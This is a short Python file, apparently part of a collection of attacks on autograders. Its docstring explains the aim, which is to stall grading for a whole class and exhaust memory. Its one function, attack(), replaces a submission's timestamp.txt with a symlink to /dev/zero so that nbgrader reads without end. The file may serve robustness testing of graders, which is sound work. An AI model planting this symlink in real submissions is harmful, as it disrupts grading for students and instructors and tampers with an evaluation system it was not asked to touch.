"""Makes the time of submission a link to a device, which nbgrader would read to its end.

Would hold up the grading of the whole class, and fill the memory.

Plain nbgrader: not tried.
"""


def attack(folder, places):
    (folder / "timestamp.txt").symlink_to("/dev/zero")
